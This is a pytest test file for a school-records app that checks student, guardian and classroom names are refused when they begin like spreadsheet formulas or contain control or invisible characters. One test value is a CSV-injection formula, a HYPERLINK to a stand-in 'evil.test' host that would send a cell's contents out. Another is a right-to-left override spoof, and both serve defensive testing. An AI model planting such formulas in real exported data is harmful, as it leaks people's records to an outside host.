"""Names (student, guardian, classroom) that no spreadsheet runs and every screen shows as typed."""

import pytest
from django.core.exceptions import ValidationError
from django.utils import translation

from students.forms import GuardianForm, StudentForm
from students.models import Classroom, Guardian, Student
from students.validators import validate_name
from tests.students.student_pages import student_data
from tests.students.test_import_export import EXPORTED_HEADER, csv_upload, upload

FORMULAS = [
    '==HYPERLINK("http://evil.test/?x="&A2,"klik")',
    "+62 812",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
INVISIBLE = [
    "Aisyah\nPutri",  # Cc: a line break
    "Aisyah\x1bPutri",  # Cc: escape
    "Aisyah\u200bPutri",  # Cf: zero-width space
    "Aisyah\u00adPutri",  # Cf: soft hyphen
    "\u202eirtuP hasyiA",  # Cf: right-to-left override, shown as "Aisyah Putri"
    "\ufeffAisyah",  # Cf: a byte-order mark pasted from a file
    "Aisyah\u2028Putri",  # Zl: line separator
    "Aisyah\ufffdPutri",  # a character lost in a conversion
]
GOOD = ["Aisyah Putri", "Nur'aini", "Siti-Aisyah", "Ibu Ani (alm.)", "Muhammad Al-Fatih", "محمد"]


@pytest.mark.parametrize("name", FORMULAS)
def test_a_name_beginning_like_a_formula_is_refused(name):
    with pytest.raises(ValidationError) as caught:
        validate_name(name)
    assert caught.value.code in {"formula_start", "control_character"}


@pytest.mark.parametrize("name", INVISIBLE)
def test_a_name_with_a_control_or_invisible_character_is_refused_naming_it(name):
    char = next(c for c in name if not (c.isalpha() or c in " '"))

    with pytest.raises(ValidationError) as caught:
        validate_name(name)

    assert caught.value.code == "control_character"
    assert caught.value.params == {"char": f"U+{ord(char):04X}"}


@pytest.mark.parametrize("name", GOOD)
def test_ordinary_names_are_accepted(name):
    validate_name(name)


def message_of(name):
    with pytest.raises(ValidationError) as caught:
        validate_name(name)
    return caught.value.messages[0]


def test_the_messages_are_indonesian():
    with translation.override("id"):
        formula, control = message_of("=1"), message_of("A\nB")

    assert formula.startswith("Nama tidak boleh diawali =, +, -, @, tab, atau baris baru")
    assert control.startswith("Nama tidak boleh memuat baris baru, tab")
    assert control.endswith("(ditemukan U+000A).")


def _data(classroom, **changes):
    return {"nis": "1234567890", "full_name": "Aisyah Putri", "classroom": classroom.pk, **changes}


def _guardian(**changes):
    return {"relation": "ibu", "name": "Ibu Siti", "phone": "0812-3456-7890", **changes}


@pytest.mark.parametrize("name", ["=1+1", "@Ibu", "Ibu\u200bSiti", "Ibu\nSiti"])
def test_the_student_form_refuses_such_names(classroom, name):
    form = StudentForm(data=_data(classroom, full_name=name))

    assert not form.is_valid()
    assert form.has_error("full_name", code="formula_start") or form.has_error(
        "full_name", code="control_character"
    )


@pytest.mark.parametrize("name", ["=1+1", "@Ibu", "Ibu\u200bSiti", "Ibu\nSiti"])
def test_the_guardian_form_refuses_such_names(name):
    form = GuardianForm(data=_guardian(name=name))

    assert not form.is_valid()
    assert form.has_error("name", code="formula_start") or form.has_error(
        "name", code="control_character"
    )


def test_the_student_admin_says_why_in_indonesian(admin_client, classroom):
    response = admin_client.post(
        "/admin/students/student/add/", student_data(classroom, full_name="-Aisyah")
    )

    assert response.status_code == 200
    assert "Nama tidak boleh diawali =, +, -, @" in response.content.decode()
    assert not Student.objects.exists()


def test_the_student_admin_refuses_such_a_guardians_name(admin_client, classroom):
    response = admin_client.post(
        "/admin/students/student/add/", student_data(classroom, _guardian(name="=Ibu"))
    )

    assert response.status_code == 200
    assert "Nama tidak boleh diawali =, +, -, @" in response.content.decode()
    assert not Student.objects.exists()


@pytest.mark.parametrize("name", ["TK A\nMelati", "=TK A", "TK\u202eA"])
def test_the_classroom_admin_refuses_such_names(admin_client, db, name):
    response = admin_client.post("/admin/students/classroom/add/", {"name": name})

    assert response.status_code == 200
    assert response.context["adminform"].form.has_error("name")
    assert not Classroom.objects.exists()


def test_full_clean_applies_the_rule(classroom):
    student = Student(nis="1", full_name="+Aisyah", classroom=classroom)
    guardian = Guardian(student=student, name="Ibu\tSiti", relation="ibu")

    with pytest.raises(ValidationError) as caught:
        student.full_clean()
    assert set(caught.value.error_dict) == {"full_name"}
    with pytest.raises(ValidationError) as caught:
        guardian.full_clean(exclude=["student"])
    assert set(caught.value.error_dict) == {"name"}


def test_an_empty_guardian_name_is_still_allowed(db):
    form = GuardianForm(data=_guardian(name=""))

    assert form.is_valid(), form.errors


# --- The import: the same rule for each guardian's name ----------------------------------


@pytest.mark.parametrize("relation", ["ayah", "ibu", "wali"])
@pytest.mark.parametrize("name", [FORMULAS[0], FORMULAS[3], INVISIBLE[2], INVISIBLE[4]])
def test_the_import_refuses_such_guardian_names(
    admin_client, classroom, tmp_path, settings, relation, name
):
    settings.STUDENT_IMPORT_DIR = tmp_path / "imports"
    cells = {
        "ayah": ["", ""],
        "ibu": ["", ""],
        "wali": ["", ""],
        relation: [name, "0812-3456-7890"],
    }
    rows = [["N001", "Aisyah", classroom.name, *cells["ayah"], *cells["ibu"], *cells["wali"]]]

    preview = upload(admin_client, csv_upload(rows, header=EXPORTED_HEADER))

    [refused] = preview.context["result"].invalid_rows
    [error] = refused.error.error_dict[f"{relation}_name"]
    assert error.code in {"formula_start", "control_character"}
    assert "confirm_form" not in preview.context
    assert not Guardian.objects.exists()
